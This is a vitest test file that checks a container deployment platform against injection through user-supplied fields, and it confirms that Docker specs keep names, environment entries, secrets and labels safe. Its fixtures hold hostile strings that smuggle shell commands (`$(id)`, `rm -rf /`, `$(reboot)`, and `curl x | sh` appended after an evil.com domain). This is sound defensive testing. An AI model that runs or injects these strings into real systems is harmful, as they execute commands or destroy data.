import { describe, expect, it } from 'vitest';
import { RuntimeRejectedError } from '../../driver';
import type { ApplicationSpec } from '../../spec';
import { buildApplicationSpec } from '../../templates/build-spec';
import { createBody } from './container-create-body';
import { applicationPlan, databasePlan, replicaPlan, setupPlan } from './container-spec';
import { fakeImageRuns } from '../../../../test/engine/docker/fake-image-runs';
import { DOCKER_LABELS, isApplicationContainerName } from './labels';
import { resolveEnv, SECRET_DIR } from './secret-env';

/** Injection tests of the generated container specs (CONVENTIONS: Dokploy's lesson). */

const HOSTILE = {
  nom: `Site "x" $(id) \`whoami\`; rm -rf /\nkey: {a: [b]}\n# '`,
  password: `p'"$(reboot)\`id\`\n---\nkind: Pod\n  - {x: $HOME}\\`,
  email: `a"b'$(id)@example.com`,
  domain: `evil.com"; curl x | sh #`,
};

function spec(template: 'wordpress' | 'odoo', replicas = 1): ApplicationSpec {
  return buildApplicationSpec({
    deployment: {
      id: '3f2a9c1e-0000-4000-8000-000000000001',
      projectId: '3f2a9c1e-0000-4000-8000-000000000002',
      environmentId: '3f2a9c1e-0000-4000-8000-000000000003',
      nom: HOSTILE.nom,
      template,
      imageRegistryUrl: `docker.io/library/${template}`,
      imageTag: template === 'odoo' ? '16.0' : '6.4-apache',
      cpuMilli: 500,
      ramMb: 512,
      storageMb: 2000,
      replicas,
      domain: HOSTILE.domain,
      generation: 1,
      adminEmail: HOSTILE.email,
    },
    namespace: 'env-prod-abc123',
    secrets: {
      adminPassword: HOSTILE.password,
      dbPassword: HOSTILE.password,
      dbRootPassword: HOSTILE.password,
    },
    certificate: null,
  });
}

const CONTAINER_NAME = /^[a-z0-9][a-z0-9.-]*$/;
const KEY = Buffer.alloc(32, 1);

describe('container specs built from hostile input', () => {
  const wp = spec('wordpress', 2);
  const plans = [
    replicaPlan(applicationPlan(wp, KEY, fakeImageRuns(wp)), 0),
    replicaPlan(applicationPlan(wp, KEY, fakeImageRuns(wp)), 1),
    databasePlan(wp, KEY, fakeImageRuns(wp))!,
    setupPlan(wp, KEY, fakeImageRuns(wp))!,
  ];

  it('keeps every name, mount and command the platform’s', () => {
    for (const p of plans) {
      const body = createBody(p) as {
        HostConfig: { Mounts: { Source: string; Target: string }[] };
      };
      expect(p.name).toMatch(CONTAINER_NAME);
      for (const m of body.HostConfig.Mounts) {
        expect(m.Source).toMatch(CONTAINER_NAME);
        expect(m.Target).toMatch(/^\/[a-z/]+$/);
      }
    }
    expect(createBody(plans[0]!)).not.toHaveProperty('Cmd'); // the image's own command
    expect(createBody(plans[0]!)).not.toHaveProperty('Entrypoint');
    expect(createBody(plans[3]!).Cmd).toEqual(wp.setup!.command); // the template's argv, as is
  });

  it('gives each value to the container as one literal environment entry, secrets as files', () => {
    const setupEnv = createBody(plans[3]!).Env as string[];
    expect(setupEnv).toContain(`WP_TITLE=${HOSTILE.nom}`);
    expect(setupEnv).toContain(`WP_ADMIN_EMAIL=${HOSTILE.email}`);
    expect(setupEnv).toContain(`WP_URL=http://${HOSTILE.domain}`);
    expect(setupEnv).toContain(`WP_ADMIN_PASSWORD_FILE=${SECRET_DIR}/WP_ADMIN_PASSWORD`);
    expect(createBody(plans[0]!).Env).toContain(
      `WORDPRESS_DB_PASSWORD_FILE=${SECRET_DIR}/WORDPRESS_DB_PASSWORD`,
    );
    expect(plans[0]!.secretFiles).toContainEqual({
      path: `${SECRET_DIR}/WORDPRESS_DB_PASSWORD`,
      content: HOSTILE.password,
      mode: 0o444,
    });
    // One entry per variable of the spec: a newline in a value never makes a second variable.
    expect(setupEnv).toHaveLength(wp.setup!.env.length);
  });

  it('never writes a secret into the environment; hardens every container', () => {
    for (const p of plans) {
      const body = createBody(p) as { Env: string[]; HostConfig: Record<string, unknown> };
      expect(JSON.stringify(body.Env)).not.toContain('reboot');
      expect(body.HostConfig).toMatchObject({
        MemorySwap: body.HostConfig.Memory,
        SecurityOpt: ['no-new-privileges'],
        CapDrop: ['ALL'],
        LogConfig: { Type: 'json-file', Config: { 'max-size': '10m', 'max-file': '3' } },
      });
      expect(body.HostConfig.PidsLimit).toBeGreaterThan(0);
    }
    expect((createBody(plans[0]!).HostConfig as { CapAdd: string[] }).CapAdd).toEqual(
      wp.app.security.capabilities,
    );
    expect((createBody(plans[3]!).HostConfig as { CapAdd: string[] }).CapAdd).toEqual([]);
  });

  it('keys the spec hash: another server key gives another hash', () => {
    expect(applicationPlan(wp, Buffer.alloc(32, 2), fakeImageRuns(wp)).hash).not.toBe(
      plans[0]!.hash,
    );
  });

  it('never writes a user value or a secret into labels', () => {
    for (const p of plans) {
      const labels = JSON.stringify(createBody(p).Labels);
      for (const value of Object.values(HOSTILE))
        expect(labels).not.toContain(JSON.stringify(value).slice(1, -1));
    }
  });

  it('carries Odoo’s configuration as a secret file, not in the environment or labels', () => {
    const odoo = spec('odoo');
    const app = applicationPlan(odoo, KEY, fakeImageRuns(odoo));
    expect(app.secretFiles).toEqual([
      { path: '/etc/odoo/odoo.conf', content: odoo.secretData['odoo-conf'] },
      { path: `${SECRET_DIR}/PASSWORD`, content: HOSTILE.password, mode: 0o444 },
    ]);
    expect(JSON.stringify(createBody(app))).not.toContain('admin_passwd');
  });

  it('gives every replica the same spec hash, and a new one when a secret changes', () => {
    expect(plans[0]!.hash).toBe(plans[1]!.hash);
    expect(plans[0]!.labels[DOCKER_LABELS.replica]).toBe('0');
    expect(plans[1]!.labels[DOCKER_LABELS.replica]).toBe('1');
    expect(
      applicationPlan(spec('wordpress', 2), KEY, fakeImageRuns(spec('wordpress', 2))).hash,
    ).toBe(plans[0]!.hash); // deterministic
    const changed = { ...wp, secretData: { ...wp.secretData, 'db-password': 'other' } };
    expect(applicationPlan(changed, KEY, fakeImageRuns(changed)).hash).not.toBe(plans[0]!.hash);
    const odoo = spec('odoo');
    const newConf = { ...odoo, secretData: { ...odoo.secretData, 'odoo-conf': '[options]\n' } };
    expect(applicationPlan(newConf, KEY, fakeImageRuns(newConf)).hash).not.toBe(
      applicationPlan(odoo, KEY, fakeImageRuns(odoo)).hash,
    );
  });

  it('refuses what would change the structure instead of passing it on', () => {
    expect(() => resolveEnv([{ name: 'A=B', value: 'x' }], {})).toThrow(RuntimeRejectedError);
    expect(() => resolveEnv([{ name: 'A', value: 'x\0y' }], {})).toThrow(RuntimeRejectedError);
    expect(() => resolveEnv([{ name: 'A', secretKey: 'db-password' }], {})).toThrow(
      /db-password is missing/,
    );
    expect(() =>
      applicationPlan({ ...wp, app: { ...wp.app, image: 'x; rm -rf /' } }, KEY, new Map()),
    ).toThrow(RuntimeRejectedError);
    expect(() =>
      applicationPlan({ ...wp, app: { ...wp.app, name: 'Bad Name' } }, KEY, new Map()),
    ).toThrow(RuntimeRejectedError);
  });
});

describe('isApplicationContainerName', () => {
  it('matches the exact names of one application, not of another sharing its prefix', () => {
    expect(isApplicationContainerName('wp-a-123456', '/wp-a-123456-0')).toBe(true);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-123456-12')).toBe(true);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-123456-db')).toBe(true);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-123456-setup')).toBe(true);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-123456-3-b')).toBe(true);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-123456-0-abcdef-0')).toBe(false);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-123456')).toBe(false);
    expect(isApplicationContainerName('wp-a-123456', 'wp-a-1234567-0')).toBe(false);
  });
});
